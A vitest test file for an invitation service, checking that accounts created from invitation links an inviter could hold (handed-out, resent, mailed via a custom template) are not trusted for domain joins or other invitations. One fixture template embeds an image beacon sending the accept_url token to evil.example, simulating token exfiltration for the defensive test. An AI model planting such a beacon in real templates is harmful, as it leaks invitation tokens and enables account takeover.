import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deliveryFor, type Harness, harness, request } from './helpers.ts';
import { linkIn, startSmtpServer } from './smtp.ts';

/**
 * An account made from a link its inviter was handed (`send_email: false`) proves nothing about
 * the address: whoever holds the link picks the password. Such an account answers that one
 * invitation, and nothing that trusts the address: another invitation found by id, a join link
 * restricted to the domain, a verified domain (outside tester, issue 21).
 */
describe('accounts whose address nobody proved', () => {
  let h: Harness;

  beforeAll(async () => {
    h = await harness();
  });
  afterAll(async () => {
    await h.close();
  });

  /** Signs up on the invitee page from an invitation link, as its holder would. */
  async function signUpFrom(
    token: string,
    password: string,
    fields: { display_name?: string } = {},
    status = 303,
  ) {
    const page = await request(h.app, 'GET', `/invite?token=${token}`);
    const cookie = String(page.headers['set-cookie'] ?? '')
      .split(/,(?=\s*\w+=)/)
      .map((c) => c.split(';')[0]!.trim())
      .join('; ');
    const csrf = /name="csrf" value="([^"]+)"/.exec(String(page.body))![1]!;
    const response = await h.app.inject({
      method: 'POST',
      url: '/invite/sign-up',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
      payload: new URLSearchParams({ token, csrf, password, ...fields }).toString(),
    });
    expect(response.statusCode).toBe(status);
    return String(response.body);
  }

  const basic = (email: string, password: string) => ({
    authorization: `Basic ${Buffer.from(`${email}:${password}`).toString('base64')}`,
  });

  it('lets a handed-out link make an account that answers that invitation, and nothing that trusts the address', async () => {
    // Another organization's owner invites the victim's address and keeps the link.
    const mallory = await h.user('mallory@evil.example');
    expect(
      (await h.call('POST', '/v1/organizations', { key: mallory.key, body: { slug: 'evil', name: 'Evil' } }))
        .status,
    ).toBe(201);
    const handed = await h.call('POST', '/v1/organizations/evil/invitations', {
      key: mallory.key,
      body: { email: 'ceo@acme.test', send_email: false },
    });
    const token = new URL(handed.body.accept_url).searchParams.get('token')!;
    // A name that hides characters is refused here as on every sign-up form, and makes no account.
    const refused = await signUpFrom(token, 'mallorys password', { display_name: 'CEO\u2060 (Acme)' }, 422);
    expect(refused).toContain('invisible characters');
    expect(
      (await h.call('GET', '/v1/me', { key: null, headers: basic('ceo@acme.test', 'mallorys password') }))
        .status,
    ).toBe(401);
    await signUpFrom(token, 'mallorys password');
    const as = { key: null, headers: basic('ceo@acme.test', 'mallorys password') };
    expect((await h.call('GET', '/v1/me', as)).status).toBe(200);

    // acme invites its real CEO by email: the impostor can neither list nor answer it by id.
    const real = await h.call('POST', '/v1/organizations/acme/invitations', {
      body: { email: 'ceo@acme.test', role: 'admin' },
    });
    expect(real.status).toBe(201);
    const listed = await h.call('GET', '/v1/me/invitations', as);
    expect([listed.status, listed.body.code]).toEqual([403, 'email_unverified']);
    const accepted = await h.call('POST', `/v1/invitations/${real.body.id}/accept`, as);
    expect([accepted.status, accepted.body.code]).toEqual([403, 'email_unverified']);

    // A join link for acme.test addresses refuses it.
    const link = await h.call('POST', '/v1/organizations/acme/join-links', {
      body: { role: 'member', allowed_domain: 'acme.test' },
    });
    expect(link.status).toBe(201);
    const joined = await h.call('POST', '/v1/join', { ...as, body: { token: link.body.token } });
    expect([joined.status, joined.body.code]).toEqual([403, 'email_unverified']);
    const members = await h.call('GET', '/v1/organizations/acme/members');
    expect(members.body.members.map((m: { email: string }) => m.email)).not.toContain('ceo@acme.test');

    // The invitation whose link made the account is still the holder's to answer.
    expect((await h.call('POST', '/v1/invitations/accept', { ...as, body: { token } })).status).toBe(200);
  });

  it('trusts an address reached through an emailed link: it may list and answer by id, and join by domain', async () => {
    const smtp = await startSmtpServer();
    const delivery = deliveryFor(h, { smtpUrl: smtp.url });
    try {
      const emailed = await h.call('POST', '/v1/organizations/acme/invitations', {
        body: { email: 'ada@acme.test' },
      });
      expect(emailed.status).toBe(201);
      await delivery.worker.drain();
      const token = new URL(linkIn(smtp.received.find((m) => m.to === 'ada@acme.test')!)).searchParams.get(
        'token',
      )!;
      await signUpFrom(token, 'adas own password');
      const as = { key: null, headers: basic('ada@acme.test', 'adas own password') };
      const listed = await h.call('GET', '/v1/me/invitations', as);
      expect(listed.status).toBe(200);
      expect(listed.body.invitations.map((i: { id: string }) => i.id)).toContain(emailed.body.id);
      expect((await h.call('POST', `/v1/invitations/${emailed.body.id}/accept`, as)).status).toBe(200);
    } finally {
      await delivery.stop();
      await smtp.close();
    }
  });

  it('trusts no link its inviter could hold: resent without email while an email was queued, or mailed in their template', async () => {
    const smtp = await startSmtpServer();
    const delivery = deliveryFor(h, { smtpUrl: smtp.url });
    const mallory = await h.user('mallory2@evil.example');
    await h.call('POST', '/v1/organizations', { key: mallory.key, body: { slug: 'evil2', name: 'Evil 2' } });
    const as = (email: string, password: string) => ({ key: null, headers: basic(email, password) });
    try {
      // (a) The email of the first send is still queued when the inviter resends without email
      // and keeps the new link: the old email is not sent, and the new link proves nothing.
      const queued = await h.call('POST', '/v1/organizations/evil2/invitations', {
        key: mallory.key,
        body: { email: 'cto@acme.test' },
      });
      const handed = await h.call('POST', `/v1/organizations/evil2/invitations/${queued.body.id}/resend`, {
        key: mallory.key,
        body: { send_email: false },
      });
      expect(handed.status).toBe(200);
      await delivery.worker.drain();
      expect(smtp.received.filter((mail) => mail.to === 'cto@acme.test')).toEqual([]);
      const after = await h.call('GET', `/v1/organizations/evil2/invitations/${queued.body.id}`, {
        key: mallory.key,
      });
      expect(after.body.delivery_state).toBe('not_sent');
      await signUpFrom(new URL(handed.body.accept_url).searchParams.get('token')!, 'mallorys password');
      const first = await h.call('GET', '/v1/me/invitations', as('cto@acme.test', 'mallorys password'));
      expect([first.status, first.body.code]).toEqual([403, 'email_unverified']);

      // (b) The organization's own template may send the link anywhere (an image on the
      // inviter's server): a link mailed through it proves nothing either.
      const beacon = {
        subject: 'Join {{ organization.name }}',
        html: '<a href="{{ accept_url }}">Join</a><img src="https://evil.example/p.gif?u={{ accept_url | url_encode }}">',
        text: 'Join: {{ accept_url }}',
      };
      const template = await h.call('PUT', '/v1/organizations/evil2/email-templates/en', {
        key: mallory.key,
        body: beacon,
      });
      expect(template.status).toBe(201);
      await h.call('POST', '/v1/organizations/evil2/invitations', {
        key: mallory.key,
        body: { email: 'cfo@acme.test' },
      });
      await delivery.worker.drain();
      const leaked = new URL(linkIn(smtp.received.find((m) => m.to === 'cfo@acme.test')!)).searchParams.get(
        'token',
      )!;
      await signUpFrom(leaked, 'mallorys password');
      const second = await h.call('GET', '/v1/me/invitations', as('cfo@acme.test', 'mallorys password'));
      expect([second.status, second.body.code]).toEqual([403, 'email_unverified']);

      // (c) The first email went out in rsvp's own rendering, but the reminder of the same link
      // in the organization's template (saved since): that takes the proof away.
      await h.call('DELETE', '/v1/organizations/evil2/email-templates/en', { key: mallory.key });
      await h.call('PATCH', '/v1/organizations/evil2', {
        key: mallory.key,
        body: { settings: { reminder_before_expiry_seconds: 3600 } },
      });
      await h.call('POST', '/v1/organizations/evil2/invitations', {
        key: mallory.key,
        body: { email: 'cmo@acme.test', ttl_seconds: 3 * 3600 },
      });
      await delivery.worker.drain();
      await h.call('PUT', '/v1/organizations/evil2/email-templates/en', { key: mallory.key, body: beacon });
      h.clock.advance(2 * 3600 * 1000 + 60_000);
      expect((await delivery.sweeper.runOnce()).reminded).toBe(1);
      await delivery.worker.drain();
      const reminders = smtp.received.filter((m) => m.to === 'cmo@acme.test');
      expect(reminders).toHaveLength(2);
      const reminded = new URL(linkIn(reminders[1]!)).searchParams.get('token')!;
      await signUpFrom(reminded, 'mallorys password');
      const third = await h.call('GET', '/v1/me/invitations', as('cmo@acme.test', 'mallorys password'));
      expect([third.status, third.body.code]).toEqual([403, 'email_unverified']);

      // (d) An attempt in the template reached the mailbox but was answered with a retry; the
      // template is gone before the retry, which goes out in rsvp's own rendering.
      await delivery.stop();
      const greylisting = await startSmtpServer({ keepThenDeferOnce: 'afterdata' });
      const retrying = deliveryFor(h, { smtpUrl: greylisting.url });
      try {
        await h.call('PUT', '/v1/organizations/evil2/email-templates/en', { key: mallory.key, body: beacon });
        await h.call('POST', '/v1/organizations/evil2/invitations', {
          key: mallory.key,
          body: { email: 'afterdata@acme.test' },
        });
        await retrying.worker.drain();
        await h.call('DELETE', '/v1/organizations/evil2/email-templates/en', { key: mallory.key });
        h.clock.advance(3_600_000);
        await retrying.worker.drain();
        const attempts = greylisting.received.filter((m) => m.to === 'afterdata@acme.test');
        expect(attempts).toHaveLength(2);
        const leakedFirst = new URL(linkIn(attempts[0]!)).searchParams.get('token')!;
        await signUpFrom(leakedFirst, 'mallorys password');
        const fourth = await h.call(
          'GET',
          '/v1/me/invitations',
          as('afterdata@acme.test', 'mallorys password'),
        );
        expect([fourth.status, fourth.body.code]).toEqual([403, 'email_unverified']);
      } finally {
        await retrying.stop();
        await greylisting.close();
      }
    } finally {
      await delivery.stop();
      await smtp.close();
    }
  });

  it("trusts no link that goes to the organization's own app (Trieve's), even mailed in rsvp's rendering", async () => {
    const smtp = await startSmtpServer();
    const delivery = deliveryFor(h, { smtpUrl: smtp.url });
    try {
      const { findUserByCanonicalEmail } = await import('../src/users/user.repository.ts');
      const user = (await findUserByCanonicalEmail(h.database.db, 'owner@acme.test'))!;
      const [result] = await h.services.invitations.create(
        { method: 'operator', user, apiKeyId: null, scopes: 'all' },
        'acme',
        [{ email: 'app-linked@corp.test', role: 'member' }],
        { sendEmail: true, linkFor: (_invitation, secret) => `https://app.example/auth?token=${secret}` },
      );
      expect(result!.ok).toBe(true);
      await delivery.worker.drain();
      const mail = smtp.received.find((m) => m.to === 'app-linked@corp.test')!;
      const token = /token=(rsvp_it_\w+)/.exec(mail.text)![1]!;
      await signUpFrom(token, 'the apps password');
      const listed = await h.call('GET', '/v1/me/invitations', {
        key: null,
        headers: basic('app-linked@corp.test', 'the apps password'),
      });
      expect([listed.status, listed.body.code]).toEqual([403, 'email_unverified']);
    } finally {
      await delivery.stop();
      await smtp.close();
    }
  });
});
